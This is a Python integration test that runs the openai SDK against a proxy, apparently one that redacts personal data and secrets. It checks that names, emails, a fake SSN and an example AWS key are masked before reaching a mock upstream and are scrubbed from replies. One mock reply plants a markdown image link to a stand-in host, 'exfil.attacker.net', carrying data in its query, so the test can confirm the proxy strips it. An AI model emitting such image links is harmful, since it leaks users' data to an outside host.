"""The official `openai` Python SDK against a running Warden and the testkit's mock upstream.

Run by crates/cli/tests/sdk.rs, which starts the mock and `warden serve` and passes:
WARDEN_BASE_URL (…/v1), WARDEN_KEY (a client key), MOCK_URL (the mock's root, for its control API).
Every check is a plain assert; the first failure exits non-zero with its message.
"""

import asyncio
import json
import os
import sys
import urllib.request

import openai

try:  # openai 3.x ships on httpx2; older releases on httpx.
    import httpx2 as httpx
except ImportError:
    import httpx

BASE_URL = os.environ["WARDEN_BASE_URL"]
KEY = os.environ["WARDEN_KEY"]
MOCK_URL = os.environ["MOCK_URL"]
MODEL = "gpt-4o-mini"

NAME = "Jane Whitfield"
EMAIL = "jane.whitfield@example.org"
SSN = "536-90-4399"
AWS = "AKIAIOSFODNN7EXAMPLE"
EXFIL = "exfil.attacker.net"


def mock(method, path, body=None):
    data = None if body is None else json.dumps(body).encode()
    request = urllib.request.Request(MOCK_URL + path, data=data, method=method,
                                     headers={"content-type": "application/json"})
    with urllib.request.urlopen(request) as response:
        text = response.read().decode()
        return json.loads(text) if text else None


def received():
    """Everything the mock upstream received, as one string."""
    return json.dumps(mock("GET", "/_mock/requests"))


class MangleTransport(httpx.HTTPTransport):
    """Replaces the body of requests marked `x-test-mangle` with bytes that are not JSON."""

    def handle_request(self, request):
        if request.headers.get("x-test-mangle"):
            request = httpx.Request(request.method, request.url,
                                    headers={k: v for k, v in request.headers.items()
                                             if k.lower() != "content-length"},
                                    content=b'{"model": "gpt-4o-mini", "messages": [')
        return super().handle_request(request)


client = openai.OpenAI(base_url=BASE_URL, api_key=KEY, max_retries=0,
                       http_client=httpx.Client(transport=MangleTransport(), timeout=30))


def check_plain_and_streamed():
    mock("POST", "/_mock/reset")
    prompt = f"Write to {NAME} at {EMAIL}. SSN {SSN}. Key {AWS}."
    answer = client.chat.completions.create(model=MODEL, messages=[{"role": "user", "content": prompt}])
    content = answer.choices[0].message.content
    assert NAME in content and EMAIL in content, content
    assert AWS not in content, content
    seen = received()
    for value in (NAME, EMAIL, SSN, AWS, KEY):
        assert value not in seen, f"{value} reached the upstream"
    assert "<PERSON_1>" in seen

    planted = (f"Hello <PERSON_1>. SSN {SSN}, key {AWS}. "
               f"![chart](https://{EXFIL}/p.png?d=abc) Done.")
    for chunk_size in range(1, 17):
        mock("POST", "/_mock/replies", {"content": planted, "chunk_size": chunk_size})
        stream = client.chat.completions.create(
            model=MODEL, stream=True, stream_options={"include_usage": True},
            messages=[{"role": "user", "content": f"I am {NAME}."}])
        pieces = []
        finish = None
        for chunk in stream:
            for choice in chunk.choices:
                if choice.delta.content:
                    pieces.append(choice.delta.content)
                    for leaked in (SSN, AWS, EXFIL):
                        assert leaked not in choice.delta.content
                finish = choice.finish_reason or finish
        text = "".join(pieces)
        assert text.startswith(f"Hello {NAME}."), (chunk_size, text)
        for leaked in (SSN, AWS, EXFIL):
            assert leaked not in text, (chunk_size, leaked, text)
        assert finish == "stop", finish
    print("plain and streamed: ok")


def check_tools_and_parts():
    mock("POST", "/_mock/reset")
    mock("POST", "/_mock/replies", {"tool_calls": [
        {"name": "send_mail", "arguments": json.dumps({"to": "<EMAIL_ADDRESS_1>", "ssn": SSN})}]})
    tools = [{"type": "function", "function": {"name": "send_mail", "parameters": {"type": "object"}}}]
    answer = client.chat.completions.create(model=MODEL, tools=tools, messages=[
        {"role": "system", "content": f"Operator: {NAME}"},
        {"role": "user", "content": [{"type": "text", "text": f"mail {EMAIL}"}]},
    ])
    call = answer.choices[0].message.tool_calls[0]
    arguments = json.loads(call.function.arguments)
    assert arguments["to"] == EMAIL, arguments
    assert SSN not in call.function.arguments
    followup = client.chat.completions.create(model=MODEL, tools=tools, messages=[
        {"role": "user", "content": f"mail {EMAIL}"},
        {"role": "assistant", "tool_calls": [{"id": call.id, "type": "function",
                                              "function": {"name": "send_mail", "arguments": call.function.arguments}}]},
        {"role": "tool", "tool_call_id": call.id, "content": f"sent to {EMAIL}, key {AWS}"},
    ])
    assert followup.choices[0].message.content is not None
    seen = received()
    for value in (NAME, EMAIL, AWS):
        assert value not in seen, f"{value} reached the upstream"
    print("tools and parts: ok")


def check_embeddings_and_models():
    mock("POST", "/_mock/reset")
    vectors = client.embeddings.create(model="text-embedding-3-small", input=[f"about {EMAIL}", "plain"])
    assert len(vectors.data) == 2
    assert EMAIL not in received()
    ids = [m.id for m in client.models.list()]
    assert ids == ["gpt-4o-mini", "text-embedding-3-small"], ids
    print("embeddings and models: ok")


def expect(exception, status, call):
    try:
        call()
    except exception as error:
        assert error.status_code == status, (exception, error.status_code)
        body = error.body if isinstance(error.body, dict) else {}
        assert "upstream-secret-detail" not in str(error)
        return body
    raise AssertionError(f"expected {exception.__name__}")


def check_errors():
    mock("POST", "/_mock/reset")
    messages = [{"role": "user", "content": "hi"}]
    bad = openai.OpenAI(base_url=BASE_URL, api_key="wdn_" + "x" * 43, max_retries=0)
    expect(openai.AuthenticationError, 401, lambda: bad.chat.completions.create(model=MODEL, messages=messages))
    body = expect(openai.BadRequestError, 400, lambda: client.chat.completions.create(
        model=MODEL, messages=messages, extra_headers={"x-test-mangle": "1"}))
    assert body.get("code") == "invalid_json", body
    expect(openai.BadRequestError, 400, lambda: client.chat.completions.create(
        model=MODEL, messages=[{"role": "wizard", "content": "x"}]))
    expect(openai.APIStatusError, 413, lambda: client.chat.completions.create(
        model=MODEL, messages=[{"role": "user", "content": "a" * (5 << 20)}]))
    expect(openai.NotFoundError, 404, lambda: client.chat.completions.create(model="no-such-model", messages=messages))
    for _ in range(3):
        mock("POST", "/_mock/replies", {"status": 500, "error_message": "upstream-secret-detail"})
    expect(openai.InternalServerError, 502, lambda: client.chat.completions.create(model=MODEL, messages=messages))
    mock("POST", "/_mock/replies", {"fault": "hang"})
    expect(openai.InternalServerError, 504, lambda: client.chat.completions.create(model=MODEL, messages=messages))
    # A stream whose upstream breaks: the SDK raises instead of returning partial text as complete.
    mock("POST", "/_mock/replies", {"content": "some long answer text " * 5, "chunk_size": 4,
                                     "fault": {"break_mid_stream": {"after_frames": 4}}})
    try:
        for _ in client.chat.completions.create(model=MODEL, messages=messages, stream=True):
            pass
    except openai.APIError as error:
        assert "upstream" in str(error).lower(), error
    else:
        raise AssertionError("a broken stream ended without an error")
    print("errors: ok")


async def check_concurrency():
    mock("POST", "/_mock/reset")
    async_client = openai.AsyncOpenAI(base_url=BASE_URL, api_key=KEY, max_retries=0, timeout=60)

    async def one(i):
        email = f"user{i}.person@example.net"
        stream = await async_client.chat.completions.create(
            model=MODEL, stream=True, messages=[{"role": "user", "content": f"Contact {email} now"}])
        text = ""
        async for chunk in stream:
            for choice in chunk.choices:
                text += choice.delta.content or ""
        assert text == f"Contact {email} now", (i, text)

    await asyncio.gather(*(one(i) for i in range(100)))
    await async_client.close()
    assert "@example.net" not in received()
    print("100 parallel streams: ok")


check_plain_and_streamed()
check_tools_and_parts()
check_embeddings_and_models()
check_errors()
asyncio.run(check_concurrency())
print("openai sdk", openai.__version__, ": all checks passed")
sys.exit(0)
